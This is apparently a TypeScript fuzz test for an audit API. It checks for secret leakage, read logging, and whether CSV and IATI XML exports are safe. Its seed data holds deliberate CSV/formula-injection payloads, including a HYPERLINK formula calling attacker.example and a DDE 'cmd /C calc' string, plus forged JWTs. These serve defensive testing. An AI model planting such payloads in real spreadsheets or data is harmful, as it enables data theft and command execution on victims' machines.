import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { validateXML } from 'xmllint-wasm';
import { badTokens } from '../coordination/support';
import { openAuditApp, type AuditApp } from '../audit/harness';
import { seedFundingStory, seedReversedTranche } from '../audit/seed';
import { fuzz, fuzzRuns, type FuzzReport, type FuzzTarget } from './support/fuzz';
import { operationsOf } from './support/openapi';

const iatiDir = join(__dirname, '../../../shared/iati/2.03');
const schemaFile = (name: string) => ({
  fileName: name,
  contents: readFileSync(join(iatiDir, name), 'utf8'),
});

/** A secret in a `$`-stream (the SQL adapters take any name): no answer may ever show it. */
const STORE_SECRET = 'store-secret-7f3a9c';
const systemStreams = ['$settings', '$$match-mat-1', '$ce-match', '$secrets-of-the-store'];

/** Reads of the record are recorded; the transparency log's public material is not (decision 0171). */
const isRecorded = (operationKey: string) =>
  operationKey.includes(' /v1/audit/') &&
  !/\/v1\/audit\/(public-key|checkpoints|proofs|documents\/[^/]+\/proof)/.test(operationKey);

// The audit API's own OpenAPI document drives the requests, as for the coordination API, over a
// log that also holds hostile text (a formula as an NGO's name, C0 controls) and a `$`-stream.
describe('the audit API under generated requests (PGlite)', () => {
  let audit: AuditApp;
  let target: FuzzTarget;
  let report: FuzzReport;

  beforeAll(async () => {
    audit = await openAuditApp('pglite');
    const story = await seedFundingStory(audit.store, 1);
    const hostile = await seedFundingStory(audit.store, 2, 'KE', {
      organizationName: '=HYPERLINK("http://attacker.example/?x","open")',
      requestTitle: 'Mediation \u0001\u000b\uFFFE',
      reference: '@SUM(1)',
      expenditureDescription: "-2+3+cmd|' /C calc'!A0",
    });
    await seedReversedTranche(audit.store, hostile, { reference: '+TR', reason: '=1+1' });
    const metadata = {
      actor: { sub: 'store', roles: ['admin'] },
      correlationId: 'fuzz',
      occurredAt: '2030-01-01T00:00:00.000Z',
      schemaVersion: 1,
    };
    await audit.store.appendToStream(
      '$secrets-of-the-store',
      [{ type: 'StoreSecret', data: { secret: STORE_SECRET }, metadata }],
      { expectedRevision: 'any' },
    );
    const size = await audit.settle();
    const streams = [
      `organization-${story.organizationId}`,
      `request-${story.requestId}`,
      `offer-${story.offerId}`,
      `match-${story.matchId}`,
      `match-${hostile.matchId}`,
      ...systemStreams,
    ];
    target = {
      url: audit.url,
      doc: await (await fetch(`${audit.url}/docs-json`)).json(),
      principals: {
        auditor: await audit.token('auditor'),
        witness: await audit.token('witness'),
        officer: await audit.token('officer'),
        ngo: await audit.token('ngo'),
        admin: await audit.token('admin'),
        anonymous: null,
        otherIssuersToken: await badTokens.wrongAudience(),
        algNone: await badTokens.algNone(),
        garbage: 'not.a.jwt',
      },
      known: (_path, parameter) =>
        parameter === 'streamId' ? streams : parameter === 'treeSize' ? ['1', String(size)] : [],
      check: (sent, status, headers, text) => [
        ...(text.includes(STORE_SECRET) ? ['an answer shows an event of a $-stream'] : []),
        ...(/\/(streams|entities)\/%24/.test(sent.path) && status < 300
          ? [`a $-stream answered ${status}`]
          : []),
        ...((status === 429 || status === 503) && !headers.get('retry-after')
          ? [`${status} without Retry-After`]
          : []),
      ],
    };
    report = await fuzz(target, fuzzRuns());
  }, 600_000);
  afterAll(() => audit?.close(), 60_000);

  it('never answers 5xx, answers every error as problem+json, and every body as its document says', async () => {
    expect(report.requests).toBe(fuzzRuns());
    expect(Object.keys(report.byOperation).sort()).toEqual(
      operationsOf(target.doc)
        .map((operation) => operation.key)
        .sort(),
    );
    expect(Object.keys(report.byPrincipal).sort()).toEqual(Object.keys(target.principals).sort());
    process.stdout.write(
      `audit API fuzz: ${report.requests} requests; statuses ${JSON.stringify(report.byStatus)}\n`,
    );
  });

  it('recorded exactly the reads it served, each with only its documented parameters, bounded', async () => {
    const parametersOf = new Map(
      operationsOf(target.doc).map((operation) => [
        operation.key,
        new Set(operation.parameters.map((p) => p.name)),
      ]),
    );
    const served = Object.entries(report.byOperationStatus)
      .filter(([key]) => isRecorded(key) && /( 200| 404)$/.test(key))
      .reduce((total, [, count]) => total + count, 0);
    const reads: { path: string; query: Record<string, unknown> }[] = [];
    for await (const event of audit.store.readAll({ asStored: true }))
      if (event.type === 'AuditRecordRead') reads.push(event.data as never);

    expect(reads).toHaveLength(served);
    const templates = [...parametersOf.keys()].map((key) => ({
      key,
      pattern: new RegExp(`^${key.split(' ')[1].replace(/\{[^}]+\}/g, '[^/]+')}$`),
    }));
    for (const read of reads) {
      const known = templates
        .filter(({ pattern }) => pattern.test(read.path))
        .flatMap(({ key }) => [...parametersOf.get(key)!]);
      expect({
        path: read.path,
        unknown: Object.keys(read.query).filter((name) => !known.includes(name)),
      }).toEqual({ path: read.path, unknown: [] });
      expect(JSON.stringify(read).length).toBeLessThan(1000);
    }
  });

  it('still exports CSV whose text cells run no formula and IATI XML that a strict parser accepts', async () => {
    const csv = await (await audit.get('/v1/audit/export/funding.csv')).text();
    const [, hxl, ...rows] = parse(csv) as string[][];
    const numeric = new Set(
      [
        '#value+funding',
        '#value+expected',
        '#value+received',
        '#indicator+code+iati_transaction',
        '#meta+position',
        '#meta+revision',
      ].map((tag) => hxl.indexOf(tag)),
    );
    const runnable = rows.flatMap((row) =>
      row.filter((cell, column) => !numeric.has(column) && /^[=+\-@\t\r]/.test(cell)),
    );
    expect(runnable).toEqual([]);
    expect(rows.some((row) => row[hxl.indexOf('#value+funding')] === '-10000.00')).toBe(true);
    const xml = await (await audit.get('/v1/audit/export/iati')).text();
    const result = await validateXML({
      xml: [{ fileName: 'export.xml', contents: xml }],
      schema: [schemaFile('iati-activities-schema.xsd')],
      preload: [schemaFile('iati-common.xsd'), schemaFile('xml.xsd')],
    });
    expect(result.errors).toEqual([]);
  });
});
